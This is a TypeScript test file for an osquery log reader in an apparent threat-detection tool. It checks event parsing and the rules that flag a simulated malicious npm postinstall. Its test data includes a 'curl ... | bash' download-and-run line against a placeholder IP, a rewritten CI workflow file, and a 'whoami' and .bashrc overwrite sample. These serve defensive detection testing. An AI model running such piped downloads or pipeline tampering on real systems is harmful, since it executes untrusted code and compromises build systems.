/**
 * osquery results (osquery.ts). test/fixtures/linux/osquery-npm-postinstall.ndjson is a Linux
 * developer machine's results log, written after osquery's schema (process_events from the audit
 * subsystem, socket_events, file_events of a FIM category, every value a string) around an
 * `npm install` whose postinstall pipes a download into bash and which rewrites a CI workflow:
 * event lines, one batch line (two starts in `diffResults`), and a snapshot of a scheduled
 * `processes` query.
 */
import { readFileSync } from 'node:fs';
import { Readable } from 'node:stream';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { osqueryReader } from '../../src/sources/osquery.js';
import { sniffFormat } from '../../src/sources/open.js';
import { runCli } from '../helpers/cli.js';
import { readWith } from './helpers.js';

const FILE = fileURLToPath(new URL('../fixtures/linux/osquery-npm-postinstall.ndjson', import.meta.url));
const TEXT = readFileSync(FILE, 'utf8');
const read = (text: string) => readWith(osqueryReader, Readable.from([text]), 'osquery.ndjson');
const result = (name: string, columns: Record<string, string>, extra: object = {}) =>
  JSON.stringify({ name, hostIdentifier: 'h1', calendarTime: 'Mon Dec  7 12:00:00 2026 UTC', unixTime: 1796644800, columns, action: 'added', ...extra });

describe('osquery reader', () => {
  it('is chosen for result lines in the event, batch and snapshot forms, not for other JSON', () => {
    expect(sniffFormat(TEXT)?.format).toBe('osquery');
    expect(sniffFormat(TEXT.split('\n').slice(3).join('\n'))?.format).toBe('osquery'); // starts with the batch line
    expect(sniffFormat(TEXT.split('\n').slice(6).join('\n'))?.format).toBe('osquery'); // starts with the snapshot
    expect(sniffFormat(JSON.stringify({ hostIdentifier: 'h1', node_key: 'k' }))?.format).not.toBe('osquery');
  });

  it("gives each evented row its category and Sigma names, a start's parent from the parent's own start", async () => {
    const { events, bad } = await read(TEXT);
    expect(bad).toEqual([]);
    expect(events.map((e) => [e.category, e.product, e.fields.Image, e.fields.ParentImage])).toEqual([
      ['process_creation', 'linux', '/usr/bin/node', undefined],
      ['process_creation', 'linux', '/usr/bin/dash', '/usr/bin/node'],
      ['process_creation', 'linux', '/usr/bin/node', '/usr/bin/dash'],
      ['process_creation', 'linux', '/usr/bin/dash', '/usr/bin/node'],
      ['process_creation', 'linux', '/usr/bin/curl', '/usr/bin/dash'],
      ['network_connection', 'linux', '/usr/bin/curl', undefined],
      ['file_event', 'linux', undefined, undefined],
      // A scheduled query of the processes table lists processes that exist: no category, its columns kept.
      [undefined, 'linux', undefined, undefined],
      [undefined, 'linux', undefined, undefined],
    ]);
    expect(events[4]!).toMatchObject({
      host: 'dev-laptop-3',
      source: { line: 4, record: 1 },
      fields: { CommandLine: 'curl -s http://203.0.113.50/p', CurrentDirectory: '/home/dev/app/node_modules/evil-pkg', ProcessId: '4302', ParentProcessId: '4301', ParentCommandLine: '/bin/sh -c curl -s http://203.0.113.50/p | bash', action: 'added', Computer: 'dev-laptop-3', name: 'process_events' },
    });
    // The row's own time (the exec), not the query's run (unixTime, 6 s later).
    expect(new Date(events[4]!.time!).toISOString()).toBe('2026-12-07T12:00:04.000Z');
    expect(events[5]!.fields).toMatchObject({ DestinationIp: '203.0.113.50', DestinationPort: '80', SourceIp: '192.168.1.23', Protocol: 'tcp', Initiated: 'true', action: 'connect' });
    expect(events[6]!.fields).toMatchObject({ TargetFilename: '/home/dev/app/.github/workflows/release.yml', Hashes: expect.stringMatching(/^MD5=9E10.*,SHA1=2FD4.*,SHA256=D7A8/), action: 'UPDATED' });
    expect(events[7]!).toMatchObject({ source: { line: 7, record: 0 }, fields: { path: '/usr/bin/node', cmdline: 'node /usr/bin/npm install evil-pkg', action: 'snapshot', name: 'node' } }); // the row's name column, not the query's
  });

  it('tells file, socket and process events apart by their columns, macOS and Windows tables too', async () => {
    const { events } = await read([
      result('fim', { eid: '1', target_path: '/etc/cron.d/x', action: 'DELETED', time: '1796644801' }),
      result('fim', { eid: '2', target_path: '/etc/cron.d/y', action: 'MOVED_TO', time: '1796644801' }),
      result('fim', { eid: '3', target_path: '/etc/cron.d/y', action: 'ACCESSED', time: '1796644801' }),
      result('sockets', { eid: '4', action: 'accept', family: '2', path: '/usr/sbin/sshd', pid: '9', remote_address: '198.51.100.9', remote_port: '50100', local_port: '22', protocol: '6', time: '1796644802' }),
      result('sockets', { eid: '5', action: 'connect', family: '1', path: '/usr/bin/node', pid: '10', remote_address: '/run/docker.sock', time: '1796644802' }),
      result('pfe', { eid: '6', operation: 'rename', executable: '/usr/bin/mv', pid: '11', ppid: '10', path: '/tmp/a', dest_path: '/home/dev/.bashrc', cwd: '/tmp', time: '1796644803' }),
      result('es', { eid: '7', global_seq_num: '88', event_type: 'exec', path: '/usr/bin/curl', cmdline: 'curl https://example.net', pid: '12', parent: '1', username: 'dev', signing_id: 'com.apple.curl', time: '1796644804' }),
      result('es', { eid: '8', global_seq_num: '89', event_type: 'fork', path: '/bin/zsh', cmdline: 'zsh', pid: '13', parent: '1', signing_id: 'com.apple.zsh', time: '1796644804' }),
      result('etw', { eid: '9', type: 'ProcessStart', path: 'C:\\Windows\\System32\\cmd.exe', cmdline: 'cmd.exe /c whoami', pid: '14', ppid: '3', username: 'CORP\\alice', mandatory_label: 'S-1-16-8192', time: '1796644805' }),
      result('etw', { eid: '10', type: 'ProcessStop', path: 'C:\\Windows\\System32\\cmd.exe', cmdline: '', pid: '14', ppid: '3', mandatory_label: 'S-1-16-8192', time: '1796644806' }),
    ].join('\n'));
    expect(events.map((e) => [e.category, e.product])).toEqual([
      ['file_delete', 'linux'],
      ['file_rename', 'linux'],
      [undefined, 'linux'],
      ['network_connection', 'linux'],
      [undefined, 'linux'], // a Unix socket
      ['file_rename', 'linux'],
      ['process_creation', 'macos'],
      [undefined, 'macos'], // a fork: the image is still the parent's
      ['process_creation', 'windows'],
      ['process_termination', 'windows'],
    ]);
    expect(events[3]!.fields.Initiated).toBe('false');
    expect(events[5]!.fields).toMatchObject({ Image: '/usr/bin/mv', SourceFilename: '/tmp/a', TargetFilename: '/home/dev/.bashrc', ParentProcessId: '10' });
    expect(events[8]!).toMatchObject({ user: 'CORP\\alice', fields: { Image: 'C:\\Windows\\System32\\cmd.exe', CommandLine: 'cmd.exe /c whoami', ParentProcessId: '3' } });
  });

  it('reports a line that is not a result with its line number and reads on; keeps a column named __proto__', async () => {
    const lines = [result('p', { eid: '1', path: '/bin/true', cmdline: 'true', pid: '2', parent: '1', time: '1796644801' }), '{"name": "p", oops', JSON.stringify({ name: 'p', hostIdentifier: 'h1' }), result('p', { eid: '2', path: '/bin/false', cmdline: 'false', pid: '3', parent: '1' }).replace('"eid"', '"__proto__":"kept","eid"')];
    const { events, bad } = await read(lines.join('\n') + '\n');
    expect(bad.map((b) => [b.line, b.reason.slice(0, 20)])).toEqual([[2, 'invalid JSON: Expect'], [3, 'an osquery result li']]);
    expect(events).toHaveLength(2);
    expect(Object.getOwnPropertyDescriptor(events[1]!.fields, '__proto__')?.value).toBe('kept');
    expect(new Date(events[1]!.time!).toISOString()).toBe('2026-12-07T12:00:00.000Z'); // no row time: unixTime
  });

  it('the seed and hardened packs: the workflow file rewritten, the piped download and its egress', async () => {
    const titles = async (pack: string) => {
      const r = await runCli(['scan', FILE, '--rules', pack, '--format', 'jsonl']);
      expect(r.stderr).toMatch(/9 events \(osquery\)/);
      return r.stdout.trim().split('\n').map((l) => (JSON.parse(l) as { rule: { title: string } }).rule.title).sort();
    };
    expect(await titles('seed')).toEqual(['CI/CD Pipeline File Modified (seed arm 3)']);
    expect(await titles('hardened')).toEqual([
      'CI/CD Pipeline File Written by an Unexpected Process',
      'Install Script Then Shell Then Non-Registry Egress Within Two Minutes',
      "Install Script's Tool Connecting to an Address With No Known Name",
      'Suspicious Execution Inside a Package Install Subtree',
      'Suspicious Execution Inside a Package Install Subtree',
    ]);
  });
});
